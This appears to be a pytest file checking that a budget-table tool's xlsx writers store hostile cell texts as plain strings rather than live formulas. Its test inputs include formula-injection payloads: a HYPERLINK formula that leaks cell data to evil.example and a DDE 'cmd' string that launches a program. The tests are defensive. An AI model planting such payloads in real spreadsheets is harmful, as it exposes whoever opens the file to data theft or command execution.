"""Output a user can trust: every xlsx writer (render, diff, export) stores text as text, never as a formula.

The hostile texts are generated here: each formula start (``= + - @``, tab, CR) with payloads a spreadsheet would
run or read as something else (a hyperlink, DDE, an error value), put in every place a writer takes text from
(the title, the year line, grid cells, dataset columns). A workbook is checked by its XML: no ``<f>`` element in
any worksheet, and every text read back as the string that was written.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from perftable.dataset import COLUMNS
from perftable.frames import to_xlsx as export_xlsx
from perftable.spans import SpanCell
from perftable.xlsxwrite import FORMULA_START, Sheet, workbook_bytes

from .conftest import SAMPLES
from .test_cli import run_cli

CLEAN_MD = SAMPLES / "formats" / "lianjiang-clean.md"
PAYLOADS = ('HYPERLINK("http://evil.example/?"&A1,"点此")', "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)")
HOSTILE = sorted(
    {start + payload for start in FORMULA_START for payload in PAYLOADS}
    | {"=1", "#N/A", "#DIV/0!", "#REF!", "=", "@", "-5%"}
)
_FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formulas(data: bytes) -> list[str]:
    """The worksheets of a workbook that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and _FORMULA.search(book.read(name))
        ]


def texts(data: bytes) -> list[tuple[str, str]]:
    """Every cell's (type, value) as openpyxl reads the workbook back, sheet by sheet, row by row."""
    book = load_workbook(io.BytesIO(data))
    return [
        (cell.data_type, cell.value)
        for ws in book
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_render_and_diff_writers_store_every_hostile_text_as_text() -> None:
    grid: list[list[SpanCell | None]] = [[SpanCell(text)] for text in HOSTILE]
    data = workbook_bytes([Sheet("表", grid, title=HOSTILE[0], lines=HOSTILE[1:3])], styled=True)
    assert formulas(data) == []
    assert texts(data) == [("s", text) for text in [HOSTILE[0], *HOSTILE[1:3], *HOSTILE]]


def test_quote_prefix_keeps_formula_starts_text_when_edited() -> None:
    grid: list[list[SpanCell | None]] = [[SpanCell("=1+1"), SpanCell("@x"), SpanCell("1+1")]]
    ws = load_workbook(io.BytesIO(workbook_bytes([Sheet("表", grid)], styled=False))).active
    assert ws is not None
    assert [cell.quotePrefix for cell in ws[1]] == [True, True, False]


def test_export_writer_stores_every_hostile_text_as_text() -> None:
    columns = COLUMNS["indicators"]
    rows = [{column: text for column in columns if column not in ("table", "year")} for text in HOSTILE]
    data = export_xlsx(rows, columns)
    assert formulas(data) == []
    values = texts(data)[len(columns) :]  # after the header row
    assert values == [
        ("s", text) for text in HOSTILE for column in columns if column not in ("table", "year")
    ]


def hostile_table(tmp_path: Path, texts_by_place: dict[str, str]) -> Path:
    """The clean sample with texts replaced (title, goal, task, indicator name): written by the test."""
    text = CLEAN_MD.read_text(encoding="utf-8")
    for old, new in texts_by_place.items():
        assert old in text
        text = text.replace(old, new, 1)
    path = tmp_path / "hostile.md"
    path.write_text(text, encoding="utf-8")
    return path


FORMULA_PLACES = {
    "2024年市级部门整体预算绩效目标表": '=HYPERLINK("http://evil.example","2024年市级部门整体预算绩效目标表")',
    "加快康园心的运营使用": "=1+1",
    "贫困残疾人家庭无障碍改造工作户数": "@SUM(A1)",
    "全部完成支出": "+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    "command",
    [
        ["render", "{table}", "-o", "{out}"],
        ["diff", str(CLEAN_MD), "{table}", "-o", "{out}"],
        ["export", "{table}", "-o", "{out}"],
    ],
    ids=["render", "diff", "export"],
)
def test_no_command_writes_a_live_formula(tmp_path: Path, command: list[str]) -> None:
    table, out = hostile_table(tmp_path, FORMULA_PLACES), tmp_path / "out.xlsx"
    result = run_cli(*(part.format(table=table, out=out) for part in command))
    assert result.returncode in (0, 1), result.stderr
    data = out.read_bytes()
    assert formulas(data) == []
    written = {value for _, value in texts(data)}
    assert {FORMULA_PLACES["2024年市级部门整体预算绩效目标表"], "@SUM(A1)"} <= written
